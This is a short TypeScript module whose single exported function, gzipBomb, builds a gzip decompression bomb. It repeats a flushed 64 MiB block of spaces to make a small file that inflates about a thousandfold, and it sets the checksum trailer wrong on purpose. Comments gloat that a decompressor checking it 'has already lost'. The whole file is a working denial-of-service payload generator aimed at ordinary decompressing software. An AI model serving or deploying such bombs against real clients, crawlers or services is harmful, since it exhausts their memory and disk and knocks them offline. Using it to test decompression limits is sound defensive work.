import { constants, deflateRawSync } from "node:zlib";

const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
const lastBlock = Buffer.from([3, 0]);
/** The checksum and the length are wrong: whoever gets as far as to check them has already lost. */
const trailer = Buffer.alloc(8);
const blockBytes = 64 * 1024 ** 2;

/** A gzip stream of so many bytes of white space, a thousandth as long: one block, flushed, again and again. */
export function gzipBomb(bytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(blockBytes, 0x20), { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([header, ...Array<Buffer>(Math.ceil(bytes / blockBytes)).fill(block), lastBlock, trailer]);
}
